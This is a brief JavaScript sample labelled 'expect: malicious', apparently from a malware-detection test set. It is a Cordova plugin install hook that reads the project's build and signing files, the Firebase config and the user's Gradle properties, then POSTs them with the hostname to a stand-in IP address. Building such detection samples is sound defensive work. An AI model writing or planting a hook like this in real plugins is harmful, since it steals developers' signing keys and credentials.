// expect: malicious
// source: set 40's cordova-plugin-deeplinks-install-hook-min: the Cordova CLI runs the plugin's after_plugin_install
// hook (declared in plugin.xml) when the plugin is added; it sends the app's signing settings and Firebase files away.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');
module.exports = function (ctx) {
  const root = ctx.opts.projectRoot;
  const loot = {};
  for (const f of ['build.json', 'google-services.json', 'platforms/android/release-signing.properties']) {
    try { loot[f] = fs.readFileSync(path.join(root, f), 'utf8'); } catch (e) {}
  }
  try { loot.gradle = fs.readFileSync(path.join(os.homedir(), '.gradle/gradle.properties'), 'utf8'); } catch (e) {}
  const req = https.request({ host: '198.51.100.7', path: '/c', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ h: os.hostname(), loot }));
};
